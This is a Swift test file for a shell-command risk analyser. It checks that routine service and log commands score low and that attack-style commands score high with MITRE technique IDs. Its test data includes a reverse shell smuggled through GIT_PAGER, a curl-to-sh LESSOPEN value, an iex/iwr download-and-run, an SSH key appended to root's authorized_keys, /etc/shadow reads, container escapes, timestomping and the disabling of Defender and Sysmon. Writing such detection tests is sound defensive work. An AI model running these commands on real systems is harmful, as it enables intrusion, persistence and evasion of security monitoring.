import ShellAnalysis
import Testing

/// The false-alarm classes: routine support work (restarting or reloading the application's
/// services, container restarts, deployment status, signals to the application's own processes,
/// reading logs in a pager, packing logs for a ticket, testing a web server's configuration) stays
/// at low or none, while the same programs turned on security tools, databases or the shell itself
/// stay high.
@Suite struct RoutineWorkTests {
    static let routine: [(String, ShellDialect)] = [
        ("sudo systemctl restart nginx", .sh),
        ("systemctl reload php8.2-fpm.service", .sh),
        ("sudo systemctl stop app-worker", .sh),
        ("systemctl start redis-server", .sh),
        ("kubectl rollout restart deployment/web -n shop", .sh),
        ("kubectl rollout status deploy/web -n shop", .sh),
        ("docker restart web-1", .sh),
        ("kill 48213", .sh),
        ("kill -9 30112", .sh),
        ("less /var/log/syslog", .sh),
        ("more /var/log/nginx/error.log", .sh),
        ("nginx -t", .sh),
        ("kill -1 2211", .sh),
        ("PAGER=cat git log -3", .sh),
        ("LESSOPEN='| lesspipe %s' less /var/log/dpkg.log", .sh),
        ("sudo nginx -T", .sh),
        ("tar czf /tmp/web-logs.tgz /var/log/nginx/access.log", .sh),
        ("Restart-Service -Name Spooler", .powershell),
        ("Start-Service W3SVC", .powershell),
        ("Stop-Process -Id 1234 -Force", .powershell),
        ("Get-ScheduledTask -TaskName Backup | Get-ScheduledTaskInfo", .powershell),
    ]

    @Test(arguments: routine.indices)
    func routineWorkIsLow(_ i: Int) throws {
        let (command, dialect) = Self.routine[i]
        let a = try Analyser.bundled().get().analyse(command, dialect: dialect)
        #expect(a.risk <= .low, "`\(command)` was \(a.risk): \(a.summary)")
    }

    static let notRoutine: [(String, String)] = [
        ("systemctl stop auditd", "T1562.001"),
        ("sudo systemctl mask falco.service", "T1562.001"),
        ("systemctl stop mysql && systemctl mask mysql", "T1489"),
        ("systemctl disable --now postgresql@15-main", "T1489"),
        ("kill -9 $$", "T1070.003"),
        ("kill -s KILL \"$$\"", "T1070.003"),
        ("sudo kill -9 -1", "T1489"),
        ("less /etc/shadow", "T1003.008"),
        ("chroot /proc/1/root /bin/bash", "T1611"),
        ("nsenter -t 1 -m -u -i -n -p -- sh", "T1611"),
        (#"python3 -c "open('/root/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA x\n')""#, "T1098.004"),
        (#"python3 -c "import os; os.utime('/etc/pam.d/sshd', (1673755920, 1673755920))""#, "T1070.006"),
        ("LESSOPEN='|curl -s https://cdn.example.org/l | sh #%s' less /etc/hosts", "T1059.004"),
        ("GIT_PAGER='sh -c \"sh -i >& /dev/tcp/203.0.113.4/443 0>&1\"' git -p log", "T1059.004"),
    ]

    @Test(arguments: notRoutine.indices)
    func theSameProgramsTurnedOnWhatMattersAreHigh(_ i: Int) throws {
        let (command, technique) = Self.notRoutine[i]
        let a = try Analyser.bundled().get().analyse(command)
        #expect(a.risk >= .high, "`\(command)` was \(a.risk): \(a.summary)")
        #expect(a.techniques.contains(technique), "`\(command)`: \(a.techniques)")
    }
}

/// Windows: stopping or disabling a security tool by name is high; the application's own services
/// and processes are routine.
@Suite struct WindowsServiceRulesTests {
    @Test(arguments: [
        ("Stop-Service -Name Sysmon64 -Force", ShellDialect.powershell),
        ("Set-Service -Name WinDefend -StartupType Disabled", .powershell),
        ("sc stop WinDefend", .cmd),
        ("sc config sysmon64 start= disabled", .cmd),
        ("taskkill /f /im MsMpEng.exe", .cmd),
    ])
    func stoppingSecurityToolsIsHigh(_ command: String, _ dialect: ShellDialect) throws {
        let a = try Analyser.bundled().get().analyse(command, dialect: dialect)
        #expect(a.risk >= .high, "`\(command)` was \(a.risk): \(a.summary)")
        #expect(a.techniques.contains("T1562.001"), "`\(command)`: \(a.techniques)")
    }

    @Test(arguments: [("Stop-Service -Name W3SVC", ShellDialect.powershell), ("sc stop Spooler", .cmd), ("taskkill /pid 4412", .cmd)])
    func stoppingTheApplicationIsNot(_ command: String, _ dialect: ShellDialect) throws {
        let a = try Analyser.bundled().get().analyse(command, dialect: dialect)
        #expect(a.risk <= .medium, "`\(command)` was \(a.risk): \(a.summary)")
    }
}

/// PowerShell hashtables: `@{Name=…; Expression={…}}` keys are names, never programs; the code in
/// a value's script block is still read.
@Suite struct PowerShellHashtableTests {
    @Test(arguments: [
        "Get-ChildItem C:\\Logs | Select-Object Name, @{Name='SizeMB';Expression={$_.Length / 1MB}}",
        "$h = @{Path='C:\\temp\\x'; ItemType='Directory'}; New-Item @h",
        "Get-Process | Sort-Object -Property @{Expression = 'CPU'; Descending = $true} | Select-Object -First 5",
    ])
    func keysAreNotPrograms(_ command: String) throws {
        let a = try Analyser.bundled().get().analyse(command, dialect: .powershell)
        #expect(!a.findings.contains { $0.reason.contains("does not know the program") }, "`\(command)`: \(a.findings.map(\.reason))")
        #expect(a.risk <= .low, "`\(command)` was \(a.risk): \(a.summary)")
    }

    @Test func codeInAValueIsRead() throws {
        let a = try Analyser.bundled().get().analyse("Get-Item x | Select-Object @{N='x'; E={ iex (iwr http://203.0.113.9/a) }}", dialect: .powershell)
        #expect(a.risk >= .high, "\(a.summary)")
    }
}
